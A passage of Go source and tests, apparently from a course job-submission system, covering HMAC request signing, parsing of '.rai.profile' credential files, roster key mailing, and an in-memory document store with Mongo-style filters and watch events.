		return ErrBadSignature
	}
	return nil
}

// Token produces the queue-message token for payload.
func Token(c Credentials, payload []byte) string {
	mac := hmac.New(sha256.New, []byte(c.SecretKey))
	mac.Write(payload)
	return hex.EncodeToString(mac.Sum(nil))
}

// HTTPAuth adapts the registry to the AuthFunc shape the objstore and
// docstore HTTP handlers accept. Simulation deployments can instead pass
// nil to run open.
func (r *Registry) HTTPAuth() func(accessKey, signature string, req *http.Request) bool {
	return func(accessKey, signature string, req *http.Request) bool {
		// The HTTP services sign over method+path+date with an empty body
		// hash: bodies are large archives already integrity-checked by
		// ETag, and the signature's job is authentication.
		err := r.Verify(accessKey, signature, req.Method, req.URL.Path, req.Header.Get(HeaderDate), nil)
		return err == nil
	}
}

// SignHTTP returns a client-side signing hook matching HTTPAuth.
func SignHTTP(c Credentials, now func() time.Time) func(req *http.Request) {
	return func(req *http.Request) {
		SignRequest(req, c, nil, now())
	}
}

// ---- .rai.profile ----

// ProfileFileName is the per-user credentials file (paper Listing 3).
const ProfileFileName = ".rai.profile"

// FormatProfile renders credentials in .rai.profile syntax.
func FormatProfile(c Credentials) string {
	return fmt.Sprintf("RAI_USER_NAME='%s'\nRAI_ACCESS_KEY='%s'\nRAI_SECRET_KEY='%s'\n",
		c.UserName, c.AccessKey, c.SecretKey)
}

// ParseProfile reads .rai.profile content.
func ParseProfile(data []byte) (Credentials, error) {
	var c Credentials
	seen := map[string]bool{}
	for i, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		k, v, ok := strings.Cut(line, "=")
		if !ok {
			return Credentials{}, fmt.Errorf("%w: line %d: %q", ErrProfileSyntax, i+1, line)
		}
		k = strings.TrimSpace(k)
		v = strings.TrimSpace(v)
		v = strings.Trim(v, `'"`)
		switch k {
		case "RAI_USER_NAME":
			c.UserName = v
		case "RAI_ACCESS_KEY":
			c.AccessKey = v
		case "RAI_SECRET_KEY":
			c.SecretKey = v
		default:
			return Credentials{}, fmt.Errorf("%w: line %d: unknown key %q", ErrProfileSyntax, i+1, k)
		}
		if seen[k] {
			return Credentials{}, fmt.Errorf("%w: duplicate key %q", ErrProfileSyntax, k)
		}
		seen[k] = true
	}
	if c.UserName == "" || c.AccessKey == "" || c.SecretKey == "" {
		return Credentials{}, fmt.Errorf("%w: missing RAI_USER_NAME/RAI_ACCESS_KEY/RAI_SECRET_KEY", ErrProfileSyntax)
	}
	return c, nil
}
