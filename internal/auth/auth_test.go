package auth

import (
	"errors"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

func TestGenerateKeyShape(t *testing.T) {
	seen := map[string]bool{}
	for i := 0; i < 100; i++ {
		k := GenerateKey()
		if len(k) != keyLen {
			t.Fatalf("key length = %d", len(k))
		}
		for _, r := range k {
			if !strings.ContainsRune(keyAlphabet, r) {
				t.Fatalf("key %q contains %q outside alphabet", k, r)
			}
		}
		if seen[k] {
			t.Fatalf("duplicate key generated: %q", k)
		}
		seen[k] = true
	}
}

func TestRegistryIssueLookupRevoke(t *testing.T) {
	r := NewRegistry()
	c, err := r.Issue("team7")
	if err != nil {
		t.Fatal(err)
	}
	got, ok := r.Lookup(c.AccessKey)
	if !ok || got.UserName != "team7" {
		t.Fatalf("Lookup = %+v, %v", got, ok)
	}
	if _, err := r.Issue("team7"); !errors.Is(err, ErrDuplicateUser) {
		t.Errorf("duplicate issue: %v", err)
	}
	r.Revoke("team7")
	if _, ok := r.Lookup(c.AccessKey); ok {
		t.Error("revoked key still valid")
	}
	if _, err := r.Issue("team7"); err != nil {
		t.Errorf("re-issue after revoke: %v", err)
	}
}

func TestSignVerify(t *testing.T) {
	r := NewRegistry()
	fixed := time.Date(2016, 12, 1, 9, 0, 0, 0, time.UTC)
	r.SetClock(func() time.Time { return fixed })
	c, _ := r.Issue("alice")
	date := fixed.Format(time.RFC3339)
	body := []byte("payload")
	sig := Sign(c.SecretKey, "PUT", "/o/uploads/proj", date, body)
	if err := r.Verify(c.AccessKey, sig, "PUT", "/o/uploads/proj", date, body); err != nil {
		t.Fatalf("Verify: %v", err)
	}
	// Tampering with any signed element invalidates.
	if err := r.Verify(c.AccessKey, sig, "GET", "/o/uploads/proj", date, body); !errors.Is(err, ErrBadSignature) {
		t.Errorf("method tamper: %v", err)
	}
	if err := r.Verify(c.AccessKey, sig, "PUT", "/o/uploads/other", date, body); !errors.Is(err, ErrBadSignature) {
		t.Errorf("path tamper: %v", err)
	}
	if err := r.Verify(c.AccessKey, sig, "PUT", "/o/uploads/proj", date, []byte("other")); !errors.Is(err, ErrBadSignature) {
		t.Errorf("body tamper: %v", err)
	}
	if err := r.Verify("bogus", sig, "PUT", "/o/uploads/proj", date, body); !errors.Is(err, ErrUnknownAccessKey) {
		t.Errorf("unknown key: %v", err)
	}
}

func TestVerifyRejectsStale(t *testing.T) {
	r := NewRegistry()
	now := time.Date(2016, 12, 1, 9, 0, 0, 0, time.UTC)
	r.SetClock(func() time.Time { return now })
	c, _ := r.Issue("alice")
	old := now.Add(-time.Hour).Format(time.RFC3339)
	sig := Sign(c.SecretKey, "GET", "/x", old, nil)
	if err := r.Verify(c.AccessKey, sig, "GET", "/x", old, nil); !errors.Is(err, ErrStaleRequest) {
		t.Errorf("stale request: %v", err)
	}
	if err := r.Verify(c.AccessKey, sig, "GET", "/x", "not-a-date", nil); !errors.Is(err, ErrStaleRequest) {
		t.Errorf("garbage date: %v", err)
	}
}

func TestTokenRoundTrip(t *testing.T) {
	r := NewRegistry()
	c, _ := r.Issue("team1")
	payload := []byte(`{"job":"42"}`)
	tok := Token(c, payload)
	if err := r.VerifyToken(c.AccessKey, tok, payload); err != nil {
		t.Fatal(err)
	}
	if err := r.VerifyToken(c.AccessKey, tok, []byte("other")); !errors.Is(err, ErrBadSignature) {
		t.Errorf("tampered payload: %v", err)
	}
	if err := r.VerifyToken("nope", tok, payload); !errors.Is(err, ErrUnknownAccessKey) {
		t.Errorf("unknown ak: %v", err)
	}
}

func TestHTTPAuthAdapter(t *testing.T) {
	r := NewRegistry()
	now := time.Date(2016, 12, 1, 9, 0, 0, 0, time.UTC)
	r.SetClock(func() time.Time { return now })
	c, _ := r.Issue("alice")
	authFn := r.HTTPAuth()
	sign := SignHTTP(c, func() time.Time { return now })

	req := httptest.NewRequest("PUT", "http://fs/o/uploads/a.tar.bz2", nil)
	sign(req)
	if !authFn(req.Header.Get(HeaderAccessKey), req.Header.Get(HeaderSignature), req) {
		t.Fatal("valid signed request rejected")
	}
	// Replaying the signature on a different path fails.
	req2 := httptest.NewRequest("PUT", "http://fs/o/uploads/other", nil)
	req2.Header = req.Header.Clone()
	if authFn(req2.Header.Get(HeaderAccessKey), req2.Header.Get(HeaderSignature), req2) {
		t.Fatal("signature replay on another path accepted")
	}
}

func TestProfileRoundTrip(t *testing.T) {
	c := Credentials{UserName: "myusername", AccessKey: "BsqJuFUI2ZtK4g1aLXf-OjmML6", SecretKey: "tU08PuKhtR9qozBNn33RcH7p5A"}
	text := FormatProfile(c)
	// Shape matches Listing 3.
	if !strings.Contains(text, "RAI_USER_NAME='myusername'") ||
		!strings.Contains(text, "RAI_ACCESS_KEY='BsqJuFUI2ZtK4g1aLXf-OjmML6'") ||
		!strings.Contains(text, "RAI_SECRET_KEY='tU08PuKhtR9qozBNn33RcH7p5A'") {
		t.Fatalf("profile text:\n%s", text)
	}
	got, err := ParseProfile([]byte(text))
	if err != nil || got != c {
		t.Fatalf("ParseProfile = %+v, %v", got, err)
	}
}

func TestParseProfileVariants(t *testing.T) {
	ok := "# comment\nRAI_USER_NAME=plain\nRAI_ACCESS_KEY=\"dquoted\"\n\nRAI_SECRET_KEY='squoted'\n"
	c, err := ParseProfile([]byte(ok))
	if err != nil || c.UserName != "plain" || c.AccessKey != "dquoted" || c.SecretKey != "squoted" {
		t.Fatalf("variants = %+v, %v", c, err)
	}
	bad := []string{
		"RAI_USER_NAME='x'\n", // missing keys
		"NOEQUALS\n",          // syntax
		"RAI_BOGUS='x'\n",     // unknown key
		"RAI_USER_NAME='a'\nRAI_USER_NAME='b'\nRAI_ACCESS_KEY='k'\nRAI_SECRET_KEY='s'\n", // dup
	}
	for _, s := range bad {
		if _, err := ParseProfile([]byte(s)); !errors.Is(err, ErrProfileSyntax) {
			t.Errorf("ParseProfile(%q) = %v", s, err)
		}
	}
}

func TestParseRoster(t *testing.T) {
	csvData := "firstname,lastname,userid\nAda,Lovelace,alove\nCharles,Babbage,cbabb\n"
	students, err := ParseRoster([]byte(csvData))
	if err != nil {
		t.Fatal(err)
	}
	if len(students) != 2 || students[0].UserID != "alove" || students[1].LastName != "Babbage" {
		t.Fatalf("students = %+v", students)
	}
	// No header is fine too.
	students, err = ParseRoster([]byte("Grace,Hopper,ghopp\n"))
	if err != nil || len(students) != 1 {
		t.Fatalf("headerless = %+v, %v", students, err)
	}
	if _, err := ParseRoster([]byte("a,b,x\nc,d,x\n")); err == nil {
		t.Error("duplicate userid accepted")
	}
	if _, err := ParseRoster([]byte("a,b\n")); err == nil {
		t.Error("short row accepted")
	}
	if _, err := ParseRoster([]byte("a,b,\n")); err == nil {
		t.Error("empty userid accepted")
	}
}

func TestKeyMailerRendersListing3(t *testing.T) {
	reg := NewRegistry()
	out := &Outbox{}
	km := &KeyMailer{Registry: reg, Outbox: out}
	roster := []Student{{FirstName: "Ada", LastName: "Lovelace", UserID: "alove"}}
	issued, err := km.Run(roster)
	if err != nil {
		t.Fatal(err)
	}
	msgs := out.Messages()
	if len(msgs) != 1 {
		t.Fatalf("outbox = %d messages", len(msgs))
	}
	m := msgs[0]
	if m.To != "alove@illinois.edu" {
		t.Errorf("To = %q", m.To)
	}
	if !strings.Contains(m.Body, "Hello Ada Lovelace,") {
		t.Errorf("greeting missing:\n%s", m.Body)
	}
	c := issued["alove"]
	for _, want := range []string{
		"RAI_USER_NAME='" + c.UserName + "'",
		"RAI_ACCESS_KEY='" + c.AccessKey + "'",
		"RAI_SECRET_KEY='" + c.SecretKey + "'",
		".rai.profile",
	} {
		if !strings.Contains(m.Body, want) {
			t.Errorf("email missing %q:\n%s", want, m.Body)
		}
	}
	// The mailed credentials authenticate.
	if _, ok := reg.Lookup(c.AccessKey); !ok {
		t.Error("mailed key not registered")
	}
}

func TestKeyMailerWholeClass(t *testing.T) {
	// The fall 2016 class had 176 students (paper §VII).
	reg := NewRegistry()
	out := &Outbox{}
	km := &KeyMailer{Registry: reg, Outbox: out}
	var roster []Student
	for i := 0; i < 176; i++ {
		roster = append(roster, Student{FirstName: "S", LastName: "T", UserID: strings.Repeat("x", 1) + string(rune('a'+i%26)) + string(rune('0'+i/26)) + "id"})
	}
	issued, err := km.Run(roster)
	if err != nil {
		t.Fatal(err)
	}
	if len(issued) != 176 || len(out.Messages()) != 176 {
		t.Fatalf("issued %d, mailed %d", len(issued), len(out.Messages()))
	}
	if len(reg.Users()) != 176 {
		t.Fatalf("registry has %d users", len(reg.Users()))
	}
}

func TestIssueTeams(t *testing.T) {
	reg := NewRegistry()
	teams := []Team{
		{Name: "team1", Members: []string{"b", "a"}},
		{Name: "team2", Members: []string{"c"}},
	}
	creds, err := IssueTeams(reg, teams)
	if err != nil {
		t.Fatal(err)
	}
	if len(creds) != 2 || creds["team1"].UserName != "team1" {
		t.Fatalf("creds = %+v", creds)
	}
	if _, err := IssueTeams(reg, []Team{{Name: ""}}); err == nil {
		t.Error("empty team name accepted")
	}
}
