package docstore

import (
	"fmt"
	"strings"
)

// matches evaluates a Mongo-style filter against a document. Filter keys
// are dotted paths; values are either literal equality tests or operator
// objects ({"$gt": 3}). An empty filter matches everything.
func matches(doc M, filter M) (bool, error) {
	for path, cond := range filter {
		if strings.HasPrefix(path, "$") {
			switch path {
			case "$or":
				ok, err := matchOr(doc, cond)
				if err != nil {
					return false, err
				}
				if !ok {
					return false, nil
				}
				continue
			default:
				return false, fmt.Errorf("%w: unsupported top-level operator %q", ErrBadFilter, path)
			}
		}
		val, present := lookup(doc, path)
		ok, err := matchCond(val, present, cond)
		if err != nil {
			return false, fmt.Errorf("%w (field %q)", err, path)
		}
		if !ok {
			return false, nil
		}
	}
	return true, nil
}

func matchOr(doc M, cond any) (bool, error) {
	alts, ok := cond.([]any)
	if !ok {
		if malts, ok2 := cond.([]M); ok2 {
			for _, alt := range malts {
				m, err := matches(doc, alt)
				if err != nil {
					return false, err
				}
				if m {
					return true, nil
				}
			}
			return false, nil
		}
		return false, fmt.Errorf("%w: $or wants an array of filters", ErrBadFilter)
	}
	for _, alt := range alts {
		sub, ok := alt.(map[string]any)
		if !ok {
			return false, fmt.Errorf("%w: $or element is not a filter", ErrBadFilter)
		}
		m, err := matches(doc, sub)
		if err != nil {
			return false, err
		}
		if m {
			return true, nil
		}
	}
	return false, nil
}

// matchCond checks one field condition: operator map or literal equality.
func matchCond(val any, present bool, cond any) (bool, error) {
	ops, isOps := cond.(map[string]any)
	if isOps && hasOperator(ops) {
		for op, arg := range ops {
			ok, err := applyOp(op, val, present, arg)
			if err != nil {
				return false, err
			}
			if !ok {
				return false, nil
			}
		}
		return true, nil
	}
	if !present {
		return cond == nil, nil
	}
	return equalValues(val, cond), nil
}

func hasOperator(m map[string]any) bool {
	for k := range m {
		if strings.HasPrefix(k, "$") {
			return true
		}
	}
	return false
}

func applyOp(op string, val any, present bool, arg any) (bool, error) {
	switch op {
	case "$exists":
		want, ok := arg.(bool)
		if !ok {
			return false, fmt.Errorf("%w: $exists wants a bool", ErrBadFilter)
		}
		return present == want, nil
	case "$eq":
		return present && equalValues(val, arg), nil
	case "$ne":
		return !present || !equalValues(val, arg), nil
	case "$gt", "$gte", "$lt", "$lte":
		if !present {
			return false, nil
		}
		c, ok := compareValues(val, arg)
		if !ok {
			return false, nil // incomparable types never match range ops
		}
		switch op {
		case "$gt":
			return c > 0, nil
		case "$gte":
			return c >= 0, nil
		case "$lt":
			return c < 0, nil
		default:
			return c <= 0, nil
		}
	case "$in":
		list, ok := arg.([]any)
		if !ok {
			return false, fmt.Errorf("%w: $in wants an array", ErrBadFilter)
		}
		if !present {
			return false, nil
		}
		for _, item := range list {
			if equalValues(val, item) {
				return true, nil
			}
		}
		return false, nil
	case "$prefix":
		// RAI extension: string prefix match, used for key scans.
		s, ok1 := val.(string)
		p, ok2 := arg.(string)
		return ok1 && ok2 && strings.HasPrefix(s, p), nil
	default:
		return false, fmt.Errorf("%w: unsupported operator %q", ErrBadFilter, op)
	}
}

// lookup resolves a dotted path inside a document.
func lookup(doc M, path string) (any, bool) {
	parts := strings.Split(path, ".")
	var cur any = map[string]any(doc)
	for _, p := range parts {
		m, ok := cur.(map[string]any)
		if !ok {
			return nil, false
		}
		cur, ok = m[p]
		if !ok {
			return nil, false
		}
	}
	return cur, true
}

// equalValues compares two JSON-typed values.
func equalValues(a, b any) bool {
	if c, ok := compareValues(a, b); ok {
		return c == 0
	}
	switch at := a.(type) {
	case bool:
		bt, ok := b.(bool)
		return ok && at == bt
	case nil:
		return b == nil
	case []any:
		bt, ok := b.([]any)
		if !ok || len(at) != len(bt) {
			return false
		}
		for i := range at {
			if !equalValues(at[i], bt[i]) {
				return false
			}
		}
		return true
	case map[string]any:
		bt, ok := b.(map[string]any)
		if !ok || len(at) != len(bt) {
			return false
		}
		for k, v := range at {
			bv, ok := bt[k]
			if !ok || !equalValues(v, bv) {
				return false
			}
		}
		return true
	}
	return false
}

// compareValues orders two values when they share a comparable type
// (numbers with numbers, strings with strings).
func compareValues(a, b any) (int, bool) {
	af, aok := toFloat(a)
	bf, bok := toFloat(b)
	if aok && bok {
		switch {
		case af < bf:
			return -1, true
		case af > bf:
			return 1, true
		default:
			return 0, true
		}
	}
	as, aok2 := a.(string)
	bs, bok2 := b.(string)
	if aok2 && bok2 {
		return strings.Compare(as, bs), true
	}
	return 0, false
}

func toFloat(v any) (float64, bool) {
	switch t := v.(type) {
	case float64:
		return t, true
	case float32:
		return float64(t), true
	case int:
		return float64(t), true
	case int64:
		return float64(t), true
	default:
		return 0, false
	}
}

// sortDocs sorts documents by the given dotted fields ('-' prefix =
// descending). Missing fields sort before present ones; incomparable
// pairs keep insertion order (stable sort).
func sortDocs(docs []M, fields []string) {
	type key struct {
		name string
		desc bool
	}
	keys := make([]key, len(fields))
	for i, f := range fields {
		if strings.HasPrefix(f, "-") {
			keys[i] = key{name: f[1:], desc: true}
		} else {
			keys[i] = key{name: f}
		}
	}
	stable := func(i, j int) bool {
		for _, k := range keys {
			vi, pi := lookup(docs[i], k.name)
			vj, pj := lookup(docs[j], k.name)
			if !pi && !pj {
				continue
			}
			if !pi {
				return !k.desc
			}
			if !pj {
				return k.desc
			}
			c, ok := compareValues(vi, vj)
			if !ok || c == 0 {
				continue
			}
			if k.desc {
				return c > 0
			}
			return c < 0
		}
		return false
	}
	sortStable(docs, stable)
}

func sortStable(docs []M, less func(i, j int) bool) {
	// insertion sort: stable and fine for result-set sizes here; avoids
	// pulling sort.SliceStable's reflect-based swapper into the hot path.
	for i := 1; i < len(docs); i++ {
		for j := i; j > 0 && less(j, j-1); j-- {
			docs[j], docs[j-1] = docs[j-1], docs[j]
		}
	}
}

// applyUpdate mutates doc according to the normalized update spec.
func applyUpdate(doc M, update M) error {
	for op, arg := range update {
		fields, ok := arg.(map[string]any)
		if !ok {
			return fmt.Errorf("%w: %s wants an object", ErrBadUpdate, op)
		}
		switch op {
		case "$set":
			for path, v := range fields {
				setPath(doc, path, v)
			}
		case "$inc":
			for path, v := range fields {
				delta, ok := toFloat(v)
				if !ok {
					return fmt.Errorf("%w: $inc %s wants a number", ErrBadUpdate, path)
				}
				cur, present := lookup(doc, path)
				base := 0.0
				if present {
					if f, ok := toFloat(cur); ok {
						base = f
					} else {
						return fmt.Errorf("%w: $inc on non-number %s", ErrBadUpdate, path)
					}
				}
				setPath(doc, path, base+delta)
			}
		case "$push":
			for path, v := range fields {
				cur, present := lookup(doc, path)
				if !present {
					setPath(doc, path, []any{v})
					continue
				}
				arr, ok := cur.([]any)
				if !ok {
					return fmt.Errorf("%w: $push on non-array %s", ErrBadUpdate, path)
				}
				setPath(doc, path, append(arr, v))
			}
		default:
			return fmt.Errorf("%w: unsupported operator %q", ErrBadUpdate, op)
		}
	}
	return nil
}

// setPath writes v at a dotted path, creating intermediate objects.
func setPath(doc M, path string, v any) {
	parts := strings.Split(path, ".")
	cur := map[string]any(doc)
	for _, p := range parts[:len(parts)-1] {
		next, ok := cur[p].(map[string]any)
		if !ok {
			next = map[string]any{}
			cur[p] = next
		}
		cur = next
	}
	cur[parts[len(parts)-1]] = v
}
