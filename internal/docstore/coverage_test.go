package docstore

import (
	"errors"
	"net/http/httptest"
	"strings"
	"testing"
)

func TestEqualValuesDeep(t *testing.T) {
	db := New()
	db.Insert("c", M{
		"tags":   []any{"gpu", "cuda"},
		"nested": M{"a": 1, "b": true},
		"flag":   true,
		"none":   nil,
	})
	cases := []struct {
		name   string
		filter M
		want   int
	}{
		{"array equal", M{"tags": []any{"gpu", "cuda"}}, 1},
		{"array order matters", M{"tags": []any{"cuda", "gpu"}}, 0},
		{"array length", M{"tags": []any{"gpu"}}, 0},
		{"object equal", M{"nested": M{"a": 1, "b": true}}, 1},
		{"object differs", M{"nested": M{"a": 2, "b": true}}, 0},
		{"object extra key", M{"nested": M{"a": 1}}, 0},
		{"bool equal", M{"flag": true}, 1},
		{"bool differs", M{"flag": false}, 0},
		{"null equal", M{"none": nil}, 1},
		{"dotted path", M{"nested.a": 1}, 1},
		{"dotted path miss", M{"nested.z": 1}, 0},
		{"dotted through scalar", M{"flag.sub": 1}, 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			n, err := db.Count("c", tc.filter)
			if err != nil {
				t.Fatal(err)
			}
			if n != tc.want {
				t.Errorf("count = %d, want %d", n, tc.want)
			}
		})
	}
}

func TestOrOperatorVariants(t *testing.T) {
	db := New()
	db.Insert("c", M{"team": "a", "rt": 1.0})
	db.Insert("c", M{"team": "b", "rt": 2.0})
	db.Insert("c", M{"team": "c", "rt": 3.0})
	// []M form (built in Go).
	n, err := db.Count("c", M{"$or": []M{{"team": "a"}, {"rt": M{"$gt": 2.5}}}})
	if err != nil || n != 2 {
		t.Fatalf("[]M or = %d, %v", n, err)
	}
	// Bad forms.
	if _, err := db.Count("c", M{"$or": "nope"}); !errors.Is(err, ErrBadFilter) {
		t.Errorf("scalar $or: %v", err)
	}
	if _, err := db.Count("c", M{"$or": []any{"nope"}}); !errors.Is(err, ErrBadFilter) {
		t.Errorf("non-filter element: %v", err)
	}
	// Nested error inside an alternative propagates.
	if _, err := db.Count("c", M{"$or": []any{map[string]any{"x": map[string]any{"$bogus": 1}}}}); !errors.Is(err, ErrBadFilter) {
		t.Errorf("nested bad op: %v", err)
	}
}

func TestHTTPErrorStatuses(t *testing.T) {
	db := New()
	srv := httptest.NewServer(Handler(db, nil))
	defer srv.Close()
	c := NewClient(srv.URL)

	// Duplicate id -> conflict surfaces as error.
	if _, err := c.Insert("c", M{"_id": "x"}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Insert("c", M{"_id": "x"}); err == nil || !strings.Contains(err.Error(), "duplicate") {
		t.Errorf("duplicate over HTTP: %v", err)
	}
	// Bad filter -> bad request error text.
	if _, err := c.Find("c", M{"v": M{"$bogus": 1}}, FindOpts{}); err == nil {
		t.Error("bad filter over HTTP accepted")
	}
	// Bad collection name.
	if _, err := c.Insert("$sys", M{}); err == nil {
		t.Error("bad collection over HTTP accepted")
	}
	// Bad update.
	if _, err := c.Update("c", M{"_id": "x"}, M{"$explode": M{}}); err == nil {
		t.Error("bad update over HTTP accepted")
	}
	// Unknown verb and missing collection path.
	for _, p := range []string{"/c/c/frobnicate", "/c/"} {
		resp, err := srv.Client().Post(srv.URL+p, "application/json", strings.NewReader("{}"))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode < 400 {
			t.Errorf("POST %s = %d", p, resp.StatusCode)
		}
	}
	// GET is rejected.
	resp, err := srv.Client().Get(srv.URL + "/c/c/find")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 405 {
		t.Errorf("GET = %d", resp.StatusCode)
	}
	// Malformed JSON body.
	resp, err = srv.Client().Post(srv.URL+"/c/c/find", "application/json", strings.NewReader("{oops"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 400 {
		t.Errorf("bad JSON = %d", resp.StatusCode)
	}
}

func TestIDsUnique(t *testing.T) {
	db := New()
	seen := map[string]bool{}
	for i := 0; i < 200; i++ {
		id, err := db.Insert("c", M{"i": i})
		if err != nil {
			t.Fatal(err)
		}
		if seen[id] {
			t.Fatalf("duplicate generated id %q", id)
		}
		seen[id] = true
	}
}
