package docstore

import (
	"context"
	"sync/atomic"
)

// Watch support: mutations emit events so followers (raiadmin logs
// -follow, dashboards) can wake on change instead of polling. Delivery
// mirrors internal/blobstore's watch hub: per-subscriber buffered
// channels, non-blocking sends (a slow subscriber drops events and
// counts them rather than stalling writers), events ordered by a
// database-wide sequence number.

// watchBuffer is the per-subscription channel depth.
const watchBuffer = 256

// WatchEvent is one observed mutation. ID is empty for collection-wide
// operations (drop) and for filter-addressed mutations that touched
// multiple documents (one event per document is emitted, each with its
// id).
type WatchEvent struct {
	Seq  uint64 `json:"seq"`
	Op   string `json:"op"` // insert | update | delete | drop
	Coll string `json:"coll"`
	ID   string `json:"id,omitempty"`
}

// WatchSub is a live subscription. Receive from Events; the channel
// closes when the context given to Watch ends or Close is called.
type WatchSub struct {
	db      *DB
	coll    string
	ch      chan WatchEvent
	dropped atomic.Uint64
	stop    func() bool
}

// Events is the delivery channel.
func (s *WatchSub) Events() <-chan WatchEvent { return s.ch }

// Dropped reports how many events were discarded because the
// subscriber fell behind its buffer.
func (s *WatchSub) Dropped() uint64 { return s.dropped.Load() }

// Close ends the subscription and closes Events.
func (s *WatchSub) Close() {
	if s.stop != nil {
		s.stop()
	}
	s.db.unsubscribe(s)
}

// Watch subscribes to mutations of coll ("" = all collections). The
// subscription ends when ctx is canceled or Close is called.
func (db *DB) Watch(ctx context.Context, coll string) *WatchSub {
	s := &WatchSub{db: db, coll: coll, ch: make(chan WatchEvent, watchBuffer)}
	db.watchMu.Lock()
	if db.watchSubs == nil {
		db.watchSubs = map[*WatchSub]struct{}{}
	}
	db.watchSubs[s] = struct{}{}
	db.watchMu.Unlock()
	// The callback goes straight to unsubscribe rather than s.Close so it
	// never races with this assignment.
	s.stop = context.AfterFunc(ctx, func() { db.unsubscribe(s) })
	return s
}

func (db *DB) unsubscribe(s *WatchSub) {
	db.watchMu.Lock()
	defer db.watchMu.Unlock()
	if _, ok := db.watchSubs[s]; ok {
		delete(db.watchSubs, s)
		close(s.ch)
	}
}

// emit fans one event out to matching subscribers. Callers hold db.mu,
// which orders events in mutation order; watchMu alone protects the
// subscriber set, so Watch/Close never contend with document reads.
func (db *DB) emit(op, coll, id string) {
	db.watchMu.Lock()
	defer db.watchMu.Unlock()
	if len(db.watchSubs) == 0 {
		return
	}
	db.watchSeq++
	ev := WatchEvent{Seq: db.watchSeq, Op: op, Coll: coll, ID: id}
	for s := range db.watchSubs {
		if s.coll != "" && s.coll != coll {
			continue
		}
		select {
		case s.ch <- ev:
		default:
			s.dropped.Add(1)
		}
	}
}

// Watcher is the optional capability interface the HTTP layer
// negotiates: DB and PersistentDB implement it; remote Clients expose
// WatchContext instead.
type Watcher interface {
	Watch(ctx context.Context, coll string) *WatchSub
}

var (
	_ Watcher = (*DB)(nil)
	_ Watcher = (*PersistentDB)(nil)
)
