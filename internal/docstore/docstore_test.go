package docstore

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"
	"testing/quick"
)

func seedSubmissions(t *testing.T, s Store) {
	t.Helper()
	rows := []M{
		{"team": "alpha", "runtime": 0.45, "kind": "final", "attempt": 3},
		{"team": "beta", "runtime": 0.62, "kind": "final", "attempt": 1},
		{"team": "gamma", "runtime": 1.9, "kind": "dev", "attempt": 7},
		{"team": "delta", "runtime": 120.0, "kind": "final", "attempt": 2},
		{"team": "alpha", "runtime": 0.51, "kind": "dev", "attempt": 2},
	}
	for _, r := range rows {
		if _, err := s.Insert("submissions", r); err != nil {
			t.Fatal(err)
		}
	}
}

func TestInsertFindOne(t *testing.T) {
	db := New()
	id, err := db.Insert("runs", M{"team": "alpha", "runtime": 0.45})
	if err != nil {
		t.Fatal(err)
	}
	if id == "" {
		t.Fatal("empty id")
	}
	doc, err := db.FindOne("runs", M{"_id": id})
	if err != nil {
		t.Fatal(err)
	}
	if doc["team"] != "alpha" || doc["runtime"] != 0.45 {
		t.Fatalf("doc = %v", doc)
	}
}

func TestInsertExplicitAndDuplicateID(t *testing.T) {
	db := New()
	if _, err := db.Insert("c", M{"_id": "fixed", "v": 1}); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Insert("c", M{"_id": "fixed", "v": 2}); !errors.Is(err, ErrDuplicateID) {
		t.Errorf("duplicate insert: %v", err)
	}
}

func TestInsertStructNormalizes(t *testing.T) {
	type rec struct {
		Team    string  `json:"team"`
		Runtime float64 `json:"runtime"`
	}
	db := New()
	if _, err := db.Insert("c", rec{Team: "x", Runtime: 2}); err != nil {
		t.Fatal(err)
	}
	doc, err := db.FindOne("c", M{"team": "x"})
	if err != nil || doc["runtime"] != 2.0 {
		t.Fatalf("doc = %v, %v", doc, err)
	}
}

func TestFilterOperators(t *testing.T) {
	db := New()
	seedSubmissions(t, db)
	cases := []struct {
		name   string
		filter M
		want   int
	}{
		{"all", M{}, 5},
		{"eq literal", M{"team": "alpha"}, 2},
		{"eq op", M{"team": M{"$eq": "alpha"}}, 2},
		{"ne", M{"kind": M{"$ne": "final"}}, 2},
		{"gt", M{"runtime": M{"$gt": 1.0}}, 2},
		{"gte", M{"runtime": M{"$gte": 0.62}}, 3},
		{"lt", M{"runtime": M{"$lt": 0.5}}, 1},
		{"lte", M{"attempt": M{"$lte": 2}}, 3},
		{"range", M{"runtime": M{"$gte": 0.4, "$lt": 1.0}}, 3},
		{"in", M{"team": M{"$in": []any{"beta", "gamma"}}}, 2},
		{"exists true", M{"attempt": M{"$exists": true}}, 5},
		{"exists false", M{"grade": M{"$exists": false}}, 5},
		{"prefix", M{"team": M{"$prefix": "a"}}, 2},
		{"or", M{"$or": []any{map[string]any{"team": "beta"}, map[string]any{"team": "delta"}}}, 2},
		{"combined", M{"kind": "final", "runtime": M{"$lt": 1.0}}, 2},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			n, err := db.Count("submissions", tc.filter)
			if err != nil {
				t.Fatal(err)
			}
			if n != tc.want {
				t.Errorf("count = %d, want %d", n, tc.want)
			}
		})
	}
}

func TestBadFilter(t *testing.T) {
	db := New()
	seedSubmissions(t, db)
	for _, f := range []M{
		{"x": M{"$bogus": 1}},
		{"$and": []any{}},
		{"x": M{"$in": "notarray"}},
		{"x": M{"$exists": "yes"}},
	} {
		if _, err := db.Find("submissions", f, FindOpts{}); !errors.Is(err, ErrBadFilter) {
			t.Errorf("filter %v: err = %v", f, err)
		}
	}
}

func TestSortSkipLimit(t *testing.T) {
	db := New()
	seedSubmissions(t, db)
	docs, err := db.Find("submissions", M{}, FindOpts{Sort: []string{"runtime"}, Limit: 3})
	if err != nil {
		t.Fatal(err)
	}
	if len(docs) != 3 || docs[0]["runtime"] != 0.45 || docs[2]["runtime"] != 0.62 {
		t.Fatalf("sorted = %v", docs)
	}
	docs, _ = db.Find("submissions", M{}, FindOpts{Sort: []string{"-runtime"}, Limit: 1})
	if docs[0]["runtime"] != 120.0 {
		t.Fatalf("desc sort head = %v", docs[0])
	}
